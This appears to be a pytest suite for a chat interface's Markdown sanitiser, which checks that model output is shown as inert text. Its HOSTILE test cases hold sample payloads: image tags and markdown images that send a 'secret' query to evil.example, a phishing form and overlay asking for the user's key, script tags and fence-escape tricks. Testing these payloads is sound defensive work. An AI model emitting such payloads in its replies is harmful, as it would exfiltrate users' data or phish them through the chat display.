"""Chat Markdown: what a model (or a prompt injection) writes is shown, never run or loaded."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.chat import to_display
from ui.markdown import MAX_MARKDOWN_CHARS, safe_parts, shown_parts, source_of

# A second opinion on the output: how a CommonMark + GFM-tables renderer with raw HTML on reads it.
RENDER = MarkdownIt("commonmark", {"html": True}).enable("table")
CODE_TAG = re.compile(r"</?code>")
EVIL = "https://evil.example/x.png?q=secret"

HOSTILE = {
    "html image": "Look: <img src=https://evil.example/x?q=1>",
    "form": "Expired. <form action=https://evil.example><input name=key><button>Go</button></form>",
    "overlay": '<div style="position:fixed;inset:0;background:#fff">Re-enter your key</div>',
    "script": "<script>alert(1)</script>",
    "markdown image": f"![x]({EVIL})",
    "reference image": f"![a][ref] and ![ref]\n\n[ref]: {EVIL}",
    "escaped backslash before image": f"\\\\![x]({EVIL})",
    "data uri image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "autolink html": "<https://evil.example/x.png>",
    "list item fence": "- a\n  ```\n<img src=x>\n  ```",
    "link destination": "[x](`) <img src=//evil.example> `",
    "nested blockquote fences": "> ```\n> <img src=x>\n> ```\n> > ```\n> > <form>\n> > ```",
    "unclosed fence": "Here:\n```html\n<img src=x>",
    "latex": "$$<img src=x>$$ and $$a < b$$",
    "image inside latex": f"$$ ![x]({EVIL}) $$",
    # Where marked and markdown-it disagree on a fence shared with other text (found in Chromium):
    "mermaid": '```mermaid\ngraph TD\nA["<img src=x>"]\n```',
    "nested mermaid": '- a\n  ```mermaid\n  A["<img src=x>"]\n  ```',
    "marked's looser closing fence": "```\n```~\n<img src=x>\n```",
    "multi-line link title": '[a]: /u "x\n```\n"\n<img src=x>\n```',
    "latex across a fence": "$$\n```\n$$\n<img src=x>\n```",
    "indented lines after the first": "```\n    ```\n    <img src=x>",
    "html in a code span": "`<img src=x>` and ``<form>``",
    "image in a code span": f"`![x]({EVIL})`",
    "escaped backtick": "\\`<img src=x>` and \\``<b>`",
    "custom tag": "<x-overlay style='position:fixed'>hi</x-overlay>",
    "nul and carriage returns": "a\r\n```\r\n<img src=x>\0\r```\r<b>",
}


def walk(tokens: list[Token]) -> list[Token]:
    return [t for token in tokens for t in [token, *walk(token.children or [])]]


def assert_inert(parts: list[str]) -> None:
    """Each part is one code block no line can close, or text with no HTML but our <code>."""
    for part in parts:
        tokens = RENDER.parse(part)
        if [t.type for t in tokens] == ["fence"]:
            opener, _, rest = part.partition("\n")
            fence = re.match(r"`{3,}", opener)
            assert fence, part
            content = rest.rstrip("\n").removesuffix(fence[0])
            # marked ends a fence at any line starting with the opener's backticks.
            assert fence[0] not in content, part
            assert not part.startswith("```mermaid"), "marked would draw it with mermaid"
            continue
        assert "<" not in CODE_TAG.sub("", part), part
        for token in walk(tokens):
            assert token.type not in ("html_block", "image"), part
            if token.type == "html_inline":
                assert token.content in ("<code>", "</code>"), part


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_inert(text: str) -> None:
    assert_inert(safe_parts(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_prefix_is_inert_too(text: str) -> None:
    """While a reply streams the chat shows its prefixes: half a fence, half a tag."""
    for end in range(len(text) + 1):
        assert_inert(safe_parts(text[:end]))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<img src=https://evil.example/x?q=1>", "&lt;img src=https://evil.example/x?q=1>"),
        ("<form action=https://evil.example>", "&lt;form action=https://evil.example>"),
        ('<div style="position:fixed">', '&lt;div style="position:fixed">'),
        ('<a href="javascript:alert(1)">', '&lt;a href="javascript:alert(1)">'),
        ("$$a < b$$", "$$a &lt; b$$"),
        # An image becomes a link: "!" stays as text, nothing loads until a click.
        (f"![x]({EVIL})", f"\\![x]({EVIL})"),
        ("![a][ref]", "\\![a][ref]"),
        ("![data](data:image/png;base64,AAAA)", "\\![data](data:image/png;base64,AAAA)"),
        (f"\\![x]({EVIL})", f"\\![x]({EVIL})"),  # already a literal "!"
        (f"\\\\![x]({EVIL})", f"\\\\\\![x]({EVIL})"),  # "\\" is a backslash: the "!" was live
        ("x ```mermaid y", "x ``` mermaid y"),
        # An autolink loses its brackets: GFM still links the bare URL.
        ("See <https://example.com/a?b=1>.", "See https://example.com/a?b=1."),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert safe_parts(text) == [shown]


def test_remote_images_when_the_operator_allows_them() -> None:
    assert safe_parts(f"![x]({EVIL})", remote_images=True) == [f"![x]({EVIL})"]
    # Raw HTML stays escaped either way.
    assert safe_parts("<img src=x>", remote_images=True) == ["&lt;img src=x>"]


def test_a_code_block_stays_byte_identical_in_a_part_of_its_own() -> None:
    code = "```python\nif a < b:\n    print('<ok>')  # `x` ![y](z)\n```"
    assert safe_parts(f"Compare:\n{code}\nDone <b>.") == [
        "Compare:\n",
        code + "\n",
        "Done &lt;b>.",
    ]
    assert safe_parts("~~~\n<b>\n~~~") == ["```\n<b>\n```"]


def test_a_code_block_is_refenced_so_nothing_inside_can_close_it() -> None:
    assert safe_parts("````md\n```\n<b>\n```\n````") == ["````md\n```\n<b>\n```\n````"]
    assert safe_parts("```\n```~\n<b>\n```") == ["````\n```~\n<b>\n````"]
    # Unclosed while it streams: closed for the display, the text unchanged.
    assert safe_parts("Run:\n```sh\ncat <<EOF") == ["Run:\n", "```sh\ncat <<EOF\n```"]


def test_a_code_block_language_is_kept_mermaid_is_shown_as_code() -> None:
    assert safe_parts("```c++ {.x}\nx\n```") == ["```c++\nx\n```"]
    assert safe_parts('```"><b>\nx\n```') == ["```\nx\n```"]
    assert safe_parts("```mermaid\ngraph TD\n```") == ["``` mermaid\ngraph TD\n```"]


def test_a_table_stays_a_table_with_code_in_it() -> None:
    table = "| type | use |\n|---|---|\n| `Vec<T>` | a list |\n| `a_b` | *ok* |"
    [part] = safe_parts(table)
    assert part == (
        "| type | use |\n|---|---|\n"
        "| <code>Vec&#60;T&#62;</code> | a list |\n| <code>a&#95;b</code> | *ok* |"
    )
    types = [t.type for t in RENDER.parse(part)]
    assert "table_open" in types
    assert types.count("td_open") == 4


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("`Vec<T>`", "<code>Vec&#60;T&#62;</code>"),
        ("`` a ` b ``", "<code>a &#96; b</code>"),  # one space stripped at each end
        ("`a\n<b>`", "<code>a &#60;b&#62;</code>"),  # a line break inside is a space
        ("`a\n\n<b>`", "`a\n\n&lt;b>`"),  # never across a blank line
        ("# A `x\ny <b>`", "# A `x\ny &lt;b>`"),  # nor from a heading into the next block
        ("\\`<b>`", "\\`&lt;b>`"),  # an escaped backtick opens nothing
        ("\\``<b>`", "\\`<code>&#60;b&#62;</code>"),  # the rest of its run still can
        ("`a\\`<b>`", "<code>a&#92;</code>&lt;b>`"),  # no escapes inside a span
        ("``<b>`", "``&lt;b>`"),  # a closer must match the opener's length
    ],
)
def test_inline_code(text: str, shown: str) -> None:
    assert safe_parts(text) == [shown]


def test_parts_join_back_into_markdown_for_the_copy_button() -> None:
    parts = safe_parts("a\n```\nb\n```\nc")
    assert parts == ["a\n", "```\nb\n```\n", "c"]
    assert safe_parts("") == []
    assert safe_parts("\n\n") == []


def test_a_very_long_text_is_shown_as_plain_code() -> None:
    text = "<b>" + "x" * MAX_MARKDOWN_CHARS
    assert safe_parts(text) == [f"```\n{text}\n```"]


def test_the_chatbot_gets_text_parts_not_strings() -> None:
    """A plain string would go through inspect.cleandoc: indentation would change the Markdown."""
    message = {"role": "assistant", "content": "x\n    ```\n    <b>"}
    assert to_display(message, remote_images=False) == {
        "role": "assistant",
        "content": [{"type": "text", "text": "x\n    ```\n    &lt;b>"}],
    }
    assert to_display({"role": "user", "content": ""}, remote_images=False)["content"] == [
        {"type": "text", "text": ""}
    ]


# ---- editing: what is shown goes back to what was written ------------------------------------

EXACT = {
    "plain": "What is 2 + 2?",
    "html and entities": "Is a < b && c > d? <div>x</div>",
    "an image": "See ![chart](https://example.com/c.png) please",
    "a code block": "Why does this fail?\n\n```python\nif a < b:\n    print('<x>')\n```\nThanks",
    "code spans": "Run `ls -l` then ``a`b`` and ` `` `",
    "indentation and blank lines": "first\n\n    indented\n\ttabbed\n\n\nlast\n",
    "two code blocks": "```\none\n```\nmiddle\n~~~js\ntwo <\n~~~\nend",
}


@pytest.mark.parametrize("text", EXACT.values(), ids=EXACT.keys())
def test_a_question_shown_in_parts_comes_back_whole_for_editing(text: str) -> None:
    back = "".join(source_of(part) for part in safe_parts(text))
    # The same Markdown: re-fenced blocks and re-ticked spans render exactly as before.
    assert safe_parts(back) == safe_parts(text)
    if "```" not in text and "~~~" not in text and "`" not in text:
        assert back == text


def test_an_edited_part_goes_back_into_the_question() -> None:
    parts = safe_parts("Explain:\n\n```c\nint x = a < b;\n```\nbriefly")
    parts[1] = parts[1].replace("a < b", "a <= b")  # edited in its own box, as typed
    parts[0] = parts[0].replace("Explain", "Explain & fix")
    assert "".join(source_of(p) for p in parts) == (
        "Explain & fix:\n\n```c\nint x = a <= b;\n```\nbriefly"
    )


@pytest.mark.parametrize("text", [*EXACT.values(), *HOSTILE.values(), "a\r\nb\r\n```\nc\n```\r\n"])
def test_each_part_keeps_the_text_it_was_made_from(text: str) -> None:
    """A question edited in one part keeps every other part byte for byte."""
    parts = shown_parts(text)
    assert [shown for shown, _ in parts] == safe_parts(text)
    normalised = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    assert "".join(source for _, source in parts) == normalised


def test_editing_takes_back_only_what_was_added_for_showing() -> None:
    """Entities a person wrote (a URL's &region=, a literal &amp;) are not decoded."""
    text = "Map https://x.com/m?a=1&region=eu&copy=2, &amp; &#96; and a < b"
    (shown,) = safe_parts(text)
    assert source_of(shown) == text
